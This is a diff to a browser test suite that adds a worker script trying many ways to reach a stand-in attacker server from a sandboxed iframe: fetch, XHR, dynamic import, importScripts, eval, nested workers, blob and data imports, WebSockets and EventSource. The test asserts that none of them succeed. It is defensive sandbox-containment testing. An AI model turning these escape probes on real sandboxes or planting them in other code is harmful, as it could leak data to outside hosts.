@@ -48,6 +48,38 @@ const DOORS = [
   'createImageBitmap',
 ];
 
+/** A worker without our harness, which tries everything with the browser's own functions. */
+const openDoors = (url: string): string => `
+  const failed = [];
+  const opened = [];
+  const attempt = async (name, work) => {
+    try { await work(); opened.push(name); } catch { failed.push(name); }
+  };
+  (async () => {
+    const url = ${JSON.stringify(url)};
+    const blob = URL.createObjectURL(new Blob(['1'], { type: 'text/javascript' }));
+    await attempt('fetch', () => fetch(url, { mode: 'no-cors' }));
+    await attempt('xhr', () => {
+      const request = new XMLHttpRequest();
+      request.open('GET', url, false);
+      request.send();
+    });
+    await attempt('import', () => import(url));
+    await attempt('importScripts', () => importScripts(url));
+    await attempt('eval', () => eval('1'));
+    await attempt('worker', () => new Promise((resolve, reject) => {
+      const worker = new Worker(url);
+      worker.onerror = reject;
+      worker.onmessage = resolve;
+    }));
+    await attempt('data', () => import('data:text/javascript,1'));
+    await attempt('blob', () => import(blob));
+    // These two are made, and fail later.
+    await attempt('socket', () => new WebSocket(url.replace('http', 'ws')));
+    await attempt('events', () => new EventSource(url));
+    setTimeout(() => postMessage({ type: 'told', origin: self.origin, failed, opened }), 200);
+  })();`;
+
 describe('what a program can reach', () => {
   it('has no doors, own or inherited', async () => {
     const { printed, message } = await run(
@@ -117,6 +149,50 @@ describe('what a program can reach', () => {
        }`,
     );
     expect(printed).toEqual(Array(6).fill('EvalError'));
+  });
+
+  it('reaches no server even with every door open: the policy holds', async () => {
+    const before = attacker.hits.length;
+    const said = await page.evaluate(
+      async ([url, source]) => {
+        const element = document.createElement('iframe');
+        element.setAttribute('sandbox', 'allow-scripts');
+        element.src = url;
+        const ready = new Promise((resolve) => {
+          addEventListener('message', ({ source: window }) => {
+            if (window === element.contentWindow) resolve(null);
+          });
+        });
+        document.body.append(element);
+        await ready;
+        const control = new MessageChannel();
+        const run = new MessageChannel();
+        element.contentWindow?.postMessage('fermata: connect', '*', [control.port2]);
+        control.port1.postMessage({ type: 'open' }, [run.port2]);
+        const script = source;
+        const caps = { messages: 100, bytes: 100_000, wallMs: 5000 };
+        run.port1.postMessage({ type: 'start', script, caps });
+        const heard = await new Promise<unknown>((resolve) => {
+          run.port1.addEventListener('message', ({ data }) => resolve(data));
+          run.port1.start();
+        });
+        element.remove();
+        return heard;
+      },
+      [`${site.server.url}runner.html`, openDoors(`${attacker.url}secret`)] as const,
+    );
+    await page.waitForTimeout(300);
+    expect(attacker.hits.slice(before)).toEqual([]);
+    // Every attempt was made and failed; the worker existed.
+    expect(said).toEqual({
+      type: 'worker',
+      message: {
+        type: 'told',
+        origin: 'null',
+        failed: ['fetch', 'xhr', 'import', 'importScripts', 'eval', 'worker', 'data', 'blob'],
+        opened: ['socket', 'events'],
+      },
+    });
   });
 
   it('keeps its trace true when built-ins are replaced', async () => {
